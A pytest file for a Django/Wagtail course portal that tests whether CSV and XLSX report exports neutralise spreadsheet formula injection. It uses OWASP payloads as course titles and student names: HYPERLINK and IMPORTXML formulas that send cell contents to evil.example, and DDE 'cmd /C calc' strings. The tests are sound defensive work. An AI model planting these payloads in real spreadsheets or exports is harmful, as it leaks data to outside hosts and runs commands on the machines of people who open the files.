"""Spreadsheet exports (issue 22): a cell a spreadsheet would run as a formula is exported as text.

The course titles and student names below are the OWASP CSV-injection payloads; the CSV is
read back with the csv module (the cells, not the bytes), the XLSX with openpyxl.
"""

import csv
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from courses.models import Certificate
from courses.services import enroll
from portal.spreadsheets import as_text
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a full-width equals sign
]
HARMLESS = ["Plain course", "Wagtail: the basics", "C++ in 10 minutes"]


def csv_cells(response):
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


def xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()], sheet


def test_a_cell_starting_with_a_formula_character_gets_an_apostrophe_and_nothing_else_changes():
    assert [as_text(value) for value in FORMULAS] == ["'" + value for value in FORMULAS]
    assert [as_text(value) for value in HARMLESS] == HARMLESS
    assert as_text(-3) == -3 and as_text(None) is None  # numbers stay numbers


def test_the_course_enrollment_report_exports_formula_titles_as_text(client, editor, build_course):
    for n, title in enumerate(FORMULAS + HARMLESS):
        enroll(UserFactory(), build_course(title, modules=1, per_module=1, slug=f"course-{n}"))
    client.force_login(editor)

    rows = csv_cells(client.get("/admin/reports/course-enrollments/", {"export": "csv"}))
    titles = {row[0] for row in rows[1:]}
    assert rows[0][0] == "Course"
    assert titles == {"'" + title for title in FORMULAS} | set(HARMLESS)
    assert {row[2] for row in rows[1:]} == {"1"}  # the counts are still numbers

    cells, sheet = xlsx_cells(client.get("/admin/reports/course-enrollments/", {"export": "xlsx"}))
    # The XLSX keeps the titles as they are, as text cells (XML reads a carriage return back as a line feed).
    assert {row[0] for row in cells[1:]} == {title.replace("\r", "\n") for title in FORMULAS + HARMLESS}
    assert {cell.data_type for cell in next(sheet.iter_cols(min_col=1, max_col=1, min_row=2))} == {"s"}


def test_the_certificates_listing_exports_formula_student_names_as_text(client, editor, build_course):
    course = build_course('=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")', modules=1, per_module=1)
    for name in FORMULAS + HARMLESS:
        Certificate.objects.create(
            user=UserFactory(),
            course=course,
            student_name=name,
            course_title=course.title,
            completed_at=timezone.now(),
        )
    client.force_login(editor)
    url = "/admin/snippets/courses/certificate/"

    rows = csv_cells(client.get(url, {"export": "csv"}))
    header = rows[0]
    names = {row[header.index("Student name")] for row in rows[1:]}
    assert names == {"'" + name for name in FORMULAS} | set(HARMLESS)
    assert {row[header.index("Course title")] for row in rows[1:]} == {"'" + course.title}

    cells, sheet = xlsx_cells(client.get(url, {"export": "xlsx"}))
    header = cells[0]
    column = header.index("Student name")
    assert {row[column] for row in cells[1:]} == {name.replace("\r", "\n") for name in FORMULAS + HARMLESS}
    assert {
        cell.data_type for cell in next(sheet.iter_cols(min_col=column + 1, max_col=column + 1, min_row=2))
    } == {"s"}


def test_wagtails_own_exports_are_covered_too(client, django_user_model, build_course):
    editor = django_user_model.objects.create_superuser("mallory", "m@example.com", "x", first_name="=1+1")
    course = build_course("@SUM(A1:A9)", modules=1, per_module=1)
    course.save_revision(user=editor).publish(user=editor)
    client.force_login(editor)

    rows = csv_cells(client.get("/admin/reports/site-history/", {"export": "csv"}))
    header = rows[0]
    published = [row for row in rows[1:] if row[header.index("Name")] == "'@SUM(A1:A9)"]
    assert published and published[0][header.index("User")].startswith("'=1+1")
